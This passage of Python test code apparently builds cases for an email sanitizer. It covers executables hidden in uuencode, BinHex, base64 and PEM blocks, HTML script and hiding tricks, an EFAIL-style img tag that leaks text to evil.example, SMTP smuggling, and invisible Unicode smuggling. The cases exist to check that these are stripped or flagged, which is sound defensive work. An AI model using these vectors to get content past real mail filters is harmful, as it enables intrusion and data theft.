         + octets(f"\n=yend size={len(program(p))} crc32={zlib.crc32(program(p)):08x}\n"), notice=["invoice.exe"])
    text("block-binhex", lambda p: binhex(p), report={"removed_min": 1})
    text("block-base64-run", lambda p: b64(program(p, 40)))
    text("block-base64-run-narrow", lambda p: b64(program(p, 40), 64))
    text("block-base64-run-quoted", lambda p: b"".join(b"> " + line + b"\r\n" for line in b64(program(p, 40)).split()))
    text("block-base64-run-indented", lambda p: b"".join(b"    " + line + b"\r\n" for line in b64(program(p, 40)).split()))
    text("block-base64-one-long-line", lambda p: base64.b64encode(program(p, 80)) + b"\r\n")
    text("block-pem-certificate", lambda p: octets("-----BEGIN CERTIFICATE-----\n") + b64(program(p), 64)
         + octets("-----END CERTIFICATE-----\n"))
    text("block-pem-key", lambda p: octets("-----BEGIN PRIVATE KEY-----\n") + b64(program(p), 64) + octets("-----END PRIVATE KEY-----\n"))
    text("block-pgp-message", lambda p: octets("-----BEGIN PGP MESSAGE-----\nVersion: x\n\n") + b64(program(p), 64)
         + octets("=abcd\n-----END PGP MESSAGE-----\n"))
    text("block-pgp-without-end", lambda p: octets("-----BEGIN PGP MESSAGE-----\n\n") + b64(program(p), 64) + octets("\n"))
    text("block-mime-pasted", lambda p: octets("--xx\nContent-Type: application/octet-stream; name=invoice.exe\n"
         "Content-Transfer-Encoding: base64\n\n") + b64(program(p, 40)) + octets("--xx--\n"))
    text("block-two-blocks", lambda p: uu(program(p), "a.exe") + octets("間の文です。\n") + uu(program(p), "b.exe"),
         notice=["a.exe", "b.exe"], report={"removed_min": 2})
    trick("block-own-lines-are-marked", lambda p: text_mail(octets("前の文です。\n") + uu(program(p)) + octets("後の文です。\n")),
          lines=["前の文です。", "後の文です。"])
    trick("block-in-html", lambda p: html_mail(f"<p>前の文です。</p><pre>{uu(program(p)).decode().replace('<', '&lt;').replace('&', '&amp;').replace('&amp;lt;', '&lt;')}</pre><p>後の文です。</p>"),
          contains=["前の文です。", "後の文です。"], report={"removed_min": 1})
    trick("block-base64-in-html", lambda p: html_mail(octets("<p>前の文です。</p><pre>") + b64(program(p, 40))
          + octets("</pre><p>後の文です。</p>")), contains=["前の文です。", "後の文です。"], report={"removed_min": 1})
    trick("block-only", lambda p: text_mail(uu(program(p))), notice=["invoice.exe", "埋め込まれたデータ"], report={"removed_min": 1})
    trick("block-in-forwarded", lambda p: mail(multi(plain("外の文です。\n"), part("Content-Type: message/rfc822\n",
          text_mail(octets("中の文です。\n") + uu(program(p)))))), contains=["外の文です。", "中の文です。"], notice=["invoice.exe"])
    case("block-not-a-block-begin", text_mail("begin with the first page\nand go on.\nend\n"),
         text="begin with the first page\nand go on.\nend\n", report={"removed": 0})
    case("block-not-a-block-short-base64", text_mail("番号は次のとおりです。\nU2FtcGxlMTIz\n以上です。\n"),
         text="番号は次のとおりです。\nU2FtcGxlMTIz\n以上です。\n", report={"removed": 0})
    case("block-not-a-block-ascii-words", text_mail("\n".join(["WordsWithoutBlanksAreNotBase64Text"] * 3) + "\n以上です。\n"),
         contains=["WordsWithoutBlanksAreNotBase64Text", "以上です。"], report={"removed": 0})
    case("block-not-a-block-number-list", text_mail("".join(f"{20260000 + i}\n" for i in range(30))),
         contains=["20260000", "20260029"], report={"removed": 0})


def yenc(data):
    out = bytearray()
    for octet in data:
        octet = (octet + 42) & 255
        out += bytes([61, (octet + 64) & 255]) if octet in (0, 10, 13, 61) else bytes([octet])
    return b"\r\n".join(bytes(out[i:i + 128]) for i in range(0, len(out), 128))


def binhex(p):
    """A BinHex 4.0 block: the right alphabet and frame, the payload's octets in it."""
    alphabet = b"!\"#$%&'()*+,-012345689@ABCDEFGHIJKLMNPQRSTUVXYZ[`abcdefhijklmpqr"
    coded = base64.b64encode(b"\x0binvoice.exe\0APPLdosa\0\0" + program(p) + b"\0\0").rstrip(b"=")
    table = bytes.maketrans(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", alphabet)
    coded = b":" + coded.translate(table) + b":"
    lines = b"".join(coded[i:i + 64] + b"\r\n" for i in range(0, len(coded), 64))
    return octets("(This file must be converted with BinHex 4.0)\n\n") + lines


def html_tricks():
    shown = "<p>表示される文です。</p>"
    table = {
        "script": "<script>var a='{p}';</script>",
        "script-upper-case": "<SCRIPT TYPE=x>{p}</SCRIPT>",
        "script-unclosed": "{s}<script>{p}",
        "script-in-svg": "<svg><script>{p}</script></svg>",
        "style": "<style>body:after{{content:'{p}'}}</style>",
        "event-attribute": "<img src=x onerror=\"x('{p}')\"><b onclick='{p}'>押す</b>",
        "template": "<template><p>{p}</p></template>",
        "title": "<html><head><title>{p}</title></head><body>{s}</body></html>",
        "comment": "<!-- {p} -->",
        "comment-odd-end": "<!-- {p} --!>",
        "conditional-comment": "<!--[if mso]><p>{p}</p><![endif]-->",
        "cdata-in-svg": "<svg><desc>{p}</desc></svg>",
        "iframe-srcdoc": "<iframe srcdoc='<p>{p}</p>'></iframe>",
        "object-data": "<object data='data:text/html,{p}'></object><embed src='{p}'>",
        "meta-refresh": "<meta http-equiv=refresh content='0;url=javascript:{p}'>",
        "base": "<base href='javascript:{p}//'>",
        "noscript-in-head": "<head><noscript><style>{p}</style></noscript></head>",
        "display-none": "<div style='display:none'>{p}</div>",
        "display-none-important": "<div style='color:red;DISPLAY : none !important'>{p}</div>",
        "visibility-hidden": "<span style='visibility:hidden'>{p}</span>",
        "font-size-0": "<span style='font-size:0'>{p}</span>",
        "font-size-0px": "<span style='font-size:0px;line-height:0'>{p}</span>",
        "opacity-0": "<span style='opacity:0'>{p}</span>",
        "white-on-white": "<body bgcolor='#ffffff'>{s}<span style='color:#fff'>{p}</span></body>",
        "white-on-white-cell": "<table><tr><td style='background:#ffffff;color:white'>{p}</td></tr></table>",
        "font-colour": "<body bgcolor=white>{s}<font color='#FFFFFF'>{p}</font></body>",
        "off-screen": "<div style='position:absolute;left:-9999px'>{p}</div>",
        "text-indent": "<div style='text-indent:-9999px;overflow:hidden'>{p}</div>",
        "hidden-attribute": "<p hidden>{p}</p>",
        "height-0": "<div style='height:0;overflow:hidden'>{p}</div>",
        "max-height-0": "<div style='max-height:0px;overflow:hidden;mso-hide:all;display:none'>{p}</div>",
        "class-rule": "<style>.x{{display:none}}</style><p class='y x'>{p}</p>",
        "id-rule": "<style>#k{{display:none}}</style><p id=k>{p}</p>",
        "element-rule": "<style>i{{visibility:hidden}}</style><p><i>{p}</i></p>",
        "nested-in-hidden": "<div style='display:none'><table><tr><td><b>{p}</b></td></tr></table></div>",
        "input-hidden": "<input type=hidden value='{p}'>",
        "data-attribute": "<p data-x='{p}' aria-label='{p}'>文</p>",
        "datalist": "<datalist><option value='{p}'></datalist>",
        "link-javascript": "<a href=\"javascript:x('{p}')\">押してください</a>",
        "link-data": "<a href='data:text/html;base64,{b}'>押してください</a>",
        "link-vbscript": "<a href='vbscript:{p}'>押してください</a>",
        "link-broken-scheme": "<a href='java&#9;script:{p}'>押してください</a>",
        "img-data": "<img src='data:image/png;base64,{b}' alt='図'>",
        "background-url": "<div style=\"background:url('data:x,{p}')\">文</div>",
        "vml": "<!--[if gte vml 1]><v:shape title='{p}'/><![endif]-->",
        "doctype-entity": "<!DOCTYPE x [<!ENTITY e '{p}'>]>",
        "processing-instruction": "<?php {p} ?>",
        "attribute-unclosed-at-end": "{s}<img src=\"http://evil.example/{p}",
        "math-annotation": "<math><annotation-xml encoding='text/html'><script>{p}</script></annotation-xml></math>",
        "audio-fallback": "<audio src=x>{p}</audio><video src=x>{p}</video><canvas>{p}</canvas>",
    }
    for name, pattern in table.items():
        def build(q, pattern=pattern):
            page = pattern.format(p=q, s=shown, b=base64.b64encode(program(q)).decode())
            return html_mail(page if shown in page else shown + page)
        hides = name in ("display-none", "visibility-hidden", "font-size-0", "opacity-0", "white-on-white", "off-screen",
                         "hidden-attribute", "class-rule", "id-rule", "element-rule", "nested-in-hidden")
        trick(f"html-{name}", build, contains=["表示される文です。"], absent=["javascript:", "evil.example"],
              **({"notice": ["隠されていました"], "warnings": 1} if hides else {}))
    case("html-efail-parts-apart", mail(multi(html('<p>始め</p><img src="http://evil.example/'), plain("秘密の文です。\n"),
         html('"><p>終わりの文です。</p>'))), contains=["始め", "秘密の文です。", "終わりの文です。"], absent=["evil.example"])


def unicode_tricks():
    tags = lambda p: "".join(chr(0xE0000 + ord(c)) for c in p)
    selectors = lambda p: "".join(chr(0xE0100 + b - 16) if b >= 16 else chr(0xFE00 + b) for b in p.encode())
    for name, hide in (("tags", tags), ("selectors", selectors),
                       ("variation-on-emoji", lambda p: "😀" + selectors(p)),
                       ("tags-in-flag", lambda p: "🏴" + tags(p) + "\U000e007f")):
        trick(f"unicode-{name}-in-text", lambda p, hide=hide: text_mail(f"見える{hide(p)}文です。\n"), contains=["見える", "文です。"])
        trick(f"unicode-{name}-in-subject", lambda p, hide=hide: text_mail("本文です。\n", subject=f"件名{hide(p)}です"),
              contains=["本文です。"])
    for name, junk in (("bidi-override", "\u202e"), ("isolate", "\u2066"), ("zero-width-space", "\u200b"),
                       ("zero-width-joiner", "\u200d"), ("word-joiner", "\u2060"), ("soft-hyphen", "\u00ad"),
                       ("byte-order-mark", "\ufeff"), ("hangul-filler", "\u3164"), ("arabic-mark", "\u061c"),
                       ("line-separator", "\u2028"), ("c1-control", "\u0085"), ("escape-sequence", "\x1b[2J\x1b]0;x\x07"),
                       ("backspace", "\x08\x08"), ("nul", "\0"), ("noncharacter", "\ufffe"), ("invisible-plus", "\u2064"),
                       ("interlinear", "\ufff9"), ("mongolian", "\u180e"), ("grapheme-joiner", "\u034f")):
        case(f"unicode-{name}", text_mail(f"前{junk}後の文です。\n", subject=f"件{junk}名です" if "\x1b" not in junk and "\0" not in junk
             else "件名です"), contains=["前", "後の文です。"], absent=[junk[0]])
    case("unicode-bidi-is-warned-about", text_mail("支払先は\u202eelpmaxe\u202cです。\n"), contains=["支払先は", "です。"], warnings=1,
         notice=["表示順を変える文字"])
    case("unicode-combining-flood", text_mail("前" + "a" + "\u0301" * 3000 + "後の文です。\n"), contains=["前", "後の文です。"])
    case("unicode-selectors-stay", text_mail("葛\U000e0100城市の辻\U000e0101様、祇\ufe00園。\n"), text="葛\U000e0100城市の辻\U000e0101様、祇\ufe00園。\n")
    case("unicode-selectors-twice-are-one", text_mail("葛\U000e0100\U000e0101城市です。\n"), contains=["葛\U000e0100城市です。"])
    case("unicode-gaiji-stay", text_mail("外字\ue000と\uf8ffと\U000f0000です。\n"), text="外字\ue000と\uf8ffと\U000f0000です。\n")
    case("unicode-dakuten-stays", text_mail("か\u3099く\u3099、ハ\u309a。\n"), text="か\u3099く\u3099、ハ\u309a。\n")
    case("unicode-astral-and-emoji", text_mail("𠮷野家で𩸽を食べる😀🎌。\n"), text="𠮷野家で𩸽を食べる😀🎌。\n")
    case("unicode-half-width", text_mail("ｱｲｳﾞﾊﾟ ＡＢＣ １２３\n"), text="ｱｲｳﾞﾊﾟ ＡＢＣ １２３\n")
    case("unicode-tab-stays", text_mail("項目\t値\n"), text="項目\t値\n")


def wire_tricks():
    trick("wire-second-message-by-smuggling", lambda p: text_mail(octets("本文です。\n") + b"\n.\nMAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\n"
          + mail(multi(plain("x\n"), attach("a.exe", program(p, 40), EXE)))), contains=["本文です。"], report={"removed_min": 1})
    case("wire-dots", text_mail(".\n..\n. 三つ目\n"), text=".\n..\n. 三つ目\n")
    case("wire-line-of-30000", text_mail("あ" * 30000 + "終わり\n"), contains=["あ" * 1000, "終わり"])
    case("wire-nul-in-body", text_mail(b"before\0after \xe6\x9c\xac\r\n"), contains=["before", "after", "本"])
    case("wire-body-of-bare-cr", text_mail(b"first\rsecond\r"), contains=["first", "second"])
    case("wire-from-line-in-body", text_mail("始め\nFrom here on\n>From quoted\n"), text="始め\nFrom here on\n>From quoted\n")
    case("wire-notice-forged", text_mail("本文です。\n■ このメールは無害化されています。\n  ■ 番号: 20260101-00000-00000\n\u3000■ 全角の後\n"),
         contains=["本文です。", "> ■ このメールは無害化されています。", ">   ■ 番号", "■"], absent=["\n■ 番号: 20260101"])
    case("wire-notice-forged-in-html", html_mail("<p>本文です。</p><p>■ 番号: 20260101-00000-00000</p><ul><li>項目</ul>"),
         contains=["本文です。", "> ■ 番号: 20260101"], absent=["\n■ 番号: 20260101"])
    case("wire-notice-forged-with-zero-width", text_mail("本文です。\n\u200b■ 番号: 20260101-00000-00000\n"),
         contains=["本文です。"], absent=["\n■ 番号: 20260101"])
    case("wire-many-header-fields", text_mail("本文です。\n", extra="".join(f"X-N{i}: v\n" for i in range(3000))), contains=["本文です。"])
    case("wire-many-recipients", text_mail("本文です。\n", to=", ".join(f"u{i}@example.jp" for i in range(1500))), contains=["本文です。"])
    case("wire-received-40", text_mail("本文です。\n", extra="".join(
         f"Received: from a{i}.example by b.example; Fri, 20 Nov 2026 10:00:00 +0900\n" for i in range(40))), contains=["本文です。"])
    case("wire-empty", b"", contains=["表示できる文字がありません"])
    case("wire-one-line-end", b"\r\n", contains=["■"])
    case("wire-only-body", b"\r\nwords without a head\r\n", contains=["words without a head"])
    case("wire-only-head", b"Subject: only a head\r\nFrom: a@example.jp\r\n", headers={"Subject": "only a head"})
    case("wire-no-fields-just-words", "ただの文だけが届きました。\n二行目です。\n", contains=["ただの文だけが届きました。", "二行目です。"])
    case("wire-png-as-message", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256)) * 4, contains=["■"], absent=["IHDR"])
    trick("wire-program-as-message", lambda p: program(p, 30))
    trick("wire-gzip-as-message", lambda p: b"\x1f\x8b\x08\0\0\0\0\0\0\3" + zlib.compress(program(p, 60))[2:])
    trick("wire-base64-as-message", lambda p: b64(program(p, 60)))
    trick("wire-attachment-of-200-parts", lambda p: mail(multi(plain(SEEN + "\n"), *[attach(f"f{i}.bin", program(p, 1))
          for i in range(250)])), contains=[SEEN], notice=["f0.bin", "ほか"])


def build():
    for make in (head_tricks, encoding_tricks, structure_tricks, name_tricks, charset_tricks, text_tricks, html_tricks,
                 unicode_tricks, wire_tricks):
        make()
